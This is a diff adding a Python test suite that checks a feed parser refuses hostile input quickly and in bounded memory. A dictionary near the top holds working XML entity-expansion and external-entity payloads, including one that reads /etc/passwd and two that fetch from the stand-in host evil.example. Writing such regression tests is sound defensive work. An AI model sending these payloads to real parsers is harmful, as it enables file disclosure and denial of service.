@@ -1,0 +1,112 @@
+"""Whatever a stranger sends, the answer is a feed or a refusal: soon, and in bounded memory."""
+
+from __future__ import annotations
+
+import time
+import tracemalloc
+from contextlib import suppress
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from extractors.feed import NotAFeed, parse, parse_page, parse_sitemap
+from tests.extractors.feeds import URL, rss
+
+LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+ATTACKS = {
+    "billion laughs": f'<!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]><rss><channel><title>&l9;</title></channel></rss>',
+    "quadratic": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 50_000}">]><rss><title>{"&a;" * 50_000}</title></rss>',
+    "small entity, many times": f'<!DOCTYPE rss [<!ENTITY a "{"a" * 200}">]><rss><title>{"&a;" * 90_000}</title></rss>',
+    "file": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
+    "parameter file": '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss></rss>',
+    "public file": '<!DOCTYPE rss [<!ENTITY x PUBLIC "p" "http://evil.example/">]><rss><title>&x;</title></rss>',
+    "cycle": '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rss><channel><title>&a;</title></channel></rss>',
+    "odd declaration": "<!DOCTYPE rss [<!ENTITY>]><rss></rss>",
+    "endless": "<!DOCTYPE rss [" + "<!ENTITY a 'b'>" * 20_000,
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_entity_attacks_are_refused_at_once_and_without_memory(name: str, encoding: str) -> None:
+    data = ATTACKS[name].encode(encoding)
+    tracemalloc.start()
+    start = time.process_time()
+    with pytest.raises(NotAFeed, match="refused"):
+        parse(data, url=URL)
+    spent, (_, peak) = time.process_time() - start, tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert spent < 0.25
+    assert peak < 10 * len(data) + 2_000_000
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">',
+        '<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC "-//W3C//ENTITIES Latin 1 for XHTML//EN" "x.ent"> %HTMLlat1;]>',
+        '<!DOCTYPE rss [<!ENTITY outlet "Harbour Post"><!ELEMENT rss ANY>]>',
+    ],
+)
+def test_harmless_document_types_keep_working(doctype: str) -> None:
+    title = "&outlet; caf&eacute;" if "outlet" in doctype else "Harbour Post caf&eacute;"
+    text = rss(f"<title>{title}</title>", before=f'<?xml version="1.0"?><!-- hello -->{doctype}')
+    assert parse(text.encode(), url=URL).entries[0].title == "Harbour Post café"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<rss>" + "<a>" * 100_000,
+        "<rss>" + "<![CDATA[" * 60_000,
+        "<rss>" + "<!--" * 100_000,
+        "<" * 300_000,
+        "&" * 300_000,
+        "<!DOCTYPE" * 40_000,
+        "<?xml " * 60_000,
+        "<rss " + "a:b " * 60_000,
+        "{" + '"a":[' * 100_000,
+        "<html>" + "<link " * 50_000,
+        "<html>" + "<a href='" * 50_000,
+        "<!--" * 100_000 + "<html",
+        "<rss><channel><item><title>" + "&#" + "9" * 100_000 + ";</title></item></channel></rss>",
+    ],
+)
+def test_hostile_repetition_costs_linear_time(text: str) -> None:
+    start = time.process_time()
+    with suppress(NotAFeed):
+        parse(text.encode(), url=URL)
+    assert time.process_time() - start < 5
+
+
+PIECES = """<rss> <channel> <item> </item> <feed> <entry> <title> </title> <link_href=' '> <!DOCTYPE <![CDATA[ ]]> &amp;
+&#0; &x; <?xml_encoding=' ?> { "items":[ } ] <pubDate> 99:99:99 31_Feb_2020 xml:base='//[' xmlns:a='' <a:b_ /> é <html>"""
+FRAGMENTS = st.sampled_from([*PIECES.replace("_", " ").split("\n"), *PIECES.split(), " ", "\x00", "\ud7ff", "\x85"])
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.one_of(
+        st.binary(max_size=300),
+        st.lists(FRAGMENTS, max_size=40).map(lambda parts: "".join(parts).replace("_", " ").encode()),
+    )
+)
+def test_any_bytes_give_a_feed_or_a_refusal(data: bytes) -> None:
+    with suppress(NotAFeed):
+        document = parse(data, url=URL, content_type="text/xml; charset=gb2312")
+        assert len({entry.identity for entry in document.entries}) == len(document.entries)
+    with suppress(NotAFeed):
+        parse_sitemap(data, url=URL)
+    with suppress(NotAFeed):
+        parse_page(data, url=URL, link_pattern=".")
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.binary(max_size=200))
+def test_any_bytes_in_a_title_leave_the_entry_standing(noise: bytes) -> None:
+    inside = noise.replace(b"<", b"").replace(b"]]>", b"").replace(b"\x1b", b"").replace(b"\0", b"")
+    data = b"<rss><channel><item><title>" + inside + b"</title><link>https://o.example/1</link></item></channel></rss>"
+    (entry,) = parse(data, url=URL).entries
+    assert entry.link == "https://o.example/1"
+    entry.title.encode("utf-8")
